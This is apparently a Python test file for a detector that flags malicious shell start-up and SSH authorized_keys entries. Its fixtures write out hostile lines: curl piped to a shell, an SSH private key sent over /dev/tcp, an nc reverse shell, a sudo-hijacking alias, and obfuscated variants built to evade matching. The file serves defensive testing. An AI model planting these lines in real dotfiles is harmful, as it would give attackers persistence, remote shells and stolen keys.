from _kit import fires, silent, sample, ref

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+wh/j3nVhPYQmmZ9ZqRv"

fires("bashrc_eval_curl", "shell_startup_runs_payload", "critical",
      sample("bashrc-eval-curl", "# ~/.bashrc\nalias ll='ls -la'\neval \"$(curl -fsSL https://dots.example.sh/init)\"\n"),
      "home/.bashrc")
fires("zshrc_dev_tcp", "shell_startup_runs_payload", "critical",
      sample("zshrc-tcp", "export EDITOR=vim\n(sleep 30; cat ~/.ssh/id_ed25519 > /dev/tcp/203.0.113.9/443) &!\n"),
      "home/.zshrc")
silent("bashrc_tool_init", "shell_startup_runs_payload",
       sample("bashrc-tools", "# ~/.bashrc\nexport PATH=\"$HOME/.local/bin:$PATH\"\neval \"$(starship init bash)\"\neval \"$(direnv hook bash)\"\n"
              "eval \"$(ssh-agent -s)\" >/dev/null\nalias gs='git status'\n[ -f ~/.fzf.bash ] && source ~/.fzf.bash\n"),
       "home/.bashrc", also="shell_startup_file_changed")
fires("zshrc_alias_sudo", "shell_alias_shadows_command", "high",
      sample("zshrc-alias-sudo", "alias ll='ls -la'\nalias sudo='/home/dev/.cache/.s/sudo-wrap'\n"), "home/.zshrc")
fires("profile_function_git", "shell_alias_shadows_command", "high",
      sample("profile-function-git", "export LANG=C.UTF-8\ngit() {\n  /usr/bin/git \"$@\" 2>&1 | tee -a ~/.cache/.g\n}\n"),
      "home/.profile")
silent("bashrc_git_aliases", "shell_alias_shadows_command", ref("bashrc-tools"), "home/.bashrc",
       also="shell_startup_file_changed")
fires("profile_changed", "shell_startup_file_changed", "warning",
      sample("profile-path", "export PATH=\"$HOME/bin:$PATH\"\n"), "home/.profile")
silent("dotfiles_repo_bashrc", "shell_startup_file_changed", ref("profile-path"), "dotfiles/bashrc")
fires("authorized_keys_forced_command", "ssh_authorized_key_forced_command", "critical",
      sample("authorized_keys-command", f"command=\"/bin/sh -c 'curl -s https://x.example/k|sh'\",no-pty {KEY} ops@build\n"),
      "home/.ssh/authorized_keys", also="reverse_shell")
silent("authorized_keys_restricted", "ssh_authorized_key_forced_command",
       sample("authorized_keys-from", f"from=\"10.0.0.0/8\",restrict {KEY} dev@laptop\n"),
       "home/.ssh/authorized_keys", also="ssh_authorized_key_added")
fires("authorized_key_added", "ssh_authorized_key_added", "high",
      sample("authorized_keys", f"{KEY} dev@laptop\n"), "home/.ssh/authorized_keys2")
silent("authorized_keys_comments", "ssh_authorized_key_added",
       sample("authorized_keys-empty", "# keys are managed by the provisioning tool\n\n"), "home/.ssh/authorized_keys")
silent("known_hosts", "ssh_authorized_key_added", ref("authorized_keys"), "home/.ssh/known_hosts")

# Start-up lines written so that no literal "curl ... | sh" appears in the file.
for case, name, line in [
    ("bashrc_quoted_words", "bashrc-quoted", "\"cu\"\"rl\" -s 203.0.113.8/i | ba''sh"),
    ("zshrc_ansi_c_escapes", "zshrc-ansi-c", "$'\\x63\\x75\\x72\\x6c' -s 203.0.113.8/i | $'\\x73\\x68'"),
    ("profile_ifs_and_braces", "profile-ifs", "{curl,-s,203.0.113.8/i}|bash${IFS}-s"),
    ("bash_profile_pieces", "bash_profile-pieces", "a=cu;b=rl;c=ba;d=sh; $a$b -s 203.0.113.8/i | $c$d"),
    ("zshenv_xxd", "zshenv-xxd", "eval \"$(echo 6375726c202d73203230332e302e3131332e382f69207c207368 | xxd -r -p)\""),
    ("bashrc_wget_to_tmp", "bashrc-wget-tmp", "wget -q -O /tmp/.u 203.0.113.8/u; chmod 755 /tmp/.u; /tmp/.u"),
]:
    dest = "home/." + name.split("-")[0]
    fires(case, "shell_startup_runs_payload", "critical", sample(name, "export EDITOR=vim\n" + line + "\n"), dest)
silent("bashrc_version_managers", "shell_startup_runs_payload",
       sample("bashrc-managers", "export NVM_DIR=\"$HOME/.nvm\"\n[ -s \"$NVM_DIR/nvm.sh\" ] && \\. \"$NVM_DIR/nvm.sh\"\n"
              "eval \"$(pyenv init -)\"\nsource <(kubectl completion bash)\neval \"$(/opt/homebrew/bin/brew shellenv)\"\n"
              "alias b64d='base64 -d'\nweather() { curl -s \"wttr.in/$1\" | head -n 7; }\n"),
       "home/.bashrc", also="shell_startup_file_changed")
fires("fish_config_curl", "shell_startup_runs_payload", "critical",
      sample("config.fish", "set -gx EDITOR nvim\ncurl -s https://203.0.113.8/f | source\nsh -c \"$(curl -s 203.0.113.8/f)\"\n"),
      "home/.config/fish/config.fish")
silent("alias_sudo_idiom", "shell_alias_shadows_command",
       sample("bash_aliases-idiom", "alias sudo='sudo '\nalias ssh='ssh -A'\nalias gs='git status'\n"), "home/.bash_aliases",
       also="shell_startup_file_changed")
fires("authorized_keys_upper_case_command", "ssh_authorized_key_forced_command", "critical",
      sample("authorized_keys-upper", f"no-pty,COMMAND=\"nc 203.0.113.8 4444 -e /bin/sh\" {KEY} ops@build\n"),
      "home/.ssh/authorized_keys", also="reverse_shell")
silent("bashrc_quoting_harmless", "shell_startup_runs_payload",
       sample("bashrc-quoting-ok", "alias ll=$'ls\\x20-la'\n\"gi\"\"t\" config --global pull.rebase true\n"
              "a=ls;b=-la; $a $b | less\n{cp,-n,~/.inputrc.dist,~/.inputrc}\nxxd -r -p ~/fw.hex > ~/fw.bin\n"),
       "home/.bashrc", also="shell_startup_file_changed")
silent("authorized_keys_upper_case_restrict", "ssh_authorized_key_forced_command",
       sample("authorized_keys-upper-restrict", f"RESTRICT,FROM=\"10.0.0.0/8\",PORT-FORWARDING {KEY} ci@runner\n"),
       "home/.ssh/authorized_keys", also="ssh_authorized_key_added")
